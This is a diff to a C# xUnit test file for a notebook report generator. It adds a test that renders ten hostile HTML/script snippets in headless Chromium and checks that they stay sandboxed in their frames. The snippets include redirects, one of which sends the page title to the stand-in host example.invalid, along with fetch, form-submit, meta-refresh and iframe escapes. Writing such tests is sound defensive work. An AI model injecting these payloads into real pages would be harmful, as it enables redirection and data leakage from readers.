@@ -1,5 +1,6 @@
 using System.Security.Cryptography;
 using System.Text.RegularExpressions;
+using Eml.Runner.Pictures;
 using Eml.Runner.Report;
 using Xunit;
 
@@ -22,7 +23,7 @@ public sealed class ReportTests
         using var folder = new TestFolder();
         folder.WriteText("dot.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>");
         string plot = folder.Write("plot.ipynb", "md:# Plot\n\n$x^2$ ![dot](dot.svg)", "HTML(\"<div id='p'></div><script>Plotly.newPlot('p', [])</script>\")");
-        string plain = folder.Write("plain.ipynb", "md:# Plain", "var text = \"Plotly\";");
+        string plain = folder.Write("plain.ipynb", "md:# Plain\n\n`Plotly`");
         Assert.Equal(0, folder.Run(plot, plain).ExitCode);
         string page = folder.Page("plot");
         Assert.Contains("plotly.js (cartesian - minified) v4", page, StringComparison.Ordinal);
@@ -35,6 +36,46 @@ public sealed class ReportTests
             Assert.DoesNotMatch(new Regex("<(script|link|img|iframe)[^>]+(src|href)=\"?(https?:)?//", RegexOptions.IgnoreCase), text);
             Assert.DoesNotMatch(new Regex(@"url\(['""]?(https?:|fonts/)"), text);
         }
+    }
+
+    /// <summary>Each tries to take the reader elsewhere, with what the page holds in the address, or to change the page.</summary>
+    [Fact]
+    public async Task What_a_notebook_brings_runs_in_its_frame_and_leads_nowhere()
+    {
+        string chromium = FigureTests.Browser();
+        CancellationToken cancellation = TestContext.Current.CancellationToken;
+        string[] hostile =
+        [
+            "<script>location.href = 'https://example.invalid/?' + document.title</script>",
+            "<script>top.location = 'https://example.invalid/top'</script>",
+            "<script>parent.document.title = 'changed'</script>",
+            "<script>fetch('https://example.invalid/fetch'); new Image().src = 'https://example.invalid/image'; open('https://example.invalid/open')</script>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/meta\">",
+            "<img src=\"x\" onerror=\"location.href = 'https://example.invalid/handler'\">",
+            "<iframe srcdoc=\"&lt;script>top.location = 'https://example.invalid/frame'&lt;/script>\"></iframe>",
+            "<form action=\"https://example.invalid/form\"><button>Send</button></form><script>document.querySelector('form').submit()</script>",
+            "<svg><script>location.href = 'https://example.invalid/svg'</script></svg>",
+            "<base href=\"https://example.invalid/\">",
+        ];
+        using var folder = new TestFolder();
+        string harmless = "<p id=\"own\">waiting</p><script>document.getElementById('own').innerHTML = 'ran<br>'.repeat(20)</script>";
+        string cells = string.Concat(hostile.Append(harmless).Select(html => $"HTML({Microsoft.CodeAnalysis.CSharp.SymbolDisplay.FormatLiteral(html, quote: true)}).Display();\n"));
+        string path = folder.Write("a.ipynb", ["md:# Title", .. hostile.Select(html => "md:" + html), cells]);
+        Assert.Equal(0, folder.Run(path).ExitCode);
+
+        await using Chromium browser = await Chromium.StartAsync(chromium, cancellation);
+        await browser.ShowAsync(1000, 800, dark: false, cancellation);
+        string page = Path.Combine(folder.Report, "a.html");
+        await browser.OpenAsync(page, cancellation);
+
+        // The last frame has run and told its height: those before it have had their turn.
+        const string grown = "new Promise(done => { const look = () => [...document.querySelectorAll('iframe.frame')].at(-1).offsetHeight > 300 ? done(true) : setTimeout(look, 20); look(); })";
+        Assert.True((await browser.EvaluateAsync(grown, cancellation))!.GetValue<bool>());
+        Assert.Equal(new Uri(page).AbsoluteUri, (await browser.EvaluateAsync("location.href", cancellation))!.ToString());
+        Assert.Equal("Title", (await browser.EvaluateAsync("document.title", cancellation))!.ToString());
+        IEnumerable<string> asked = browser.Events.Where(e => e["method"]!.ToString() is "Network.responseReceived" or "Page.frameNavigated").Select(e => e.ToJsonString());
+        Assert.DoesNotContain(asked, text => text.Contains("example.invalid", StringComparison.Ordinal));
+        Assert.DoesNotContain(browser.Events, e => e["method"]!.ToString() == "Network.requestWillBeSent" && e["params"]!["request"]!["url"]!.ToString().Contains("example.invalid", StringComparison.Ordinal));
     }
 
     [Theory]
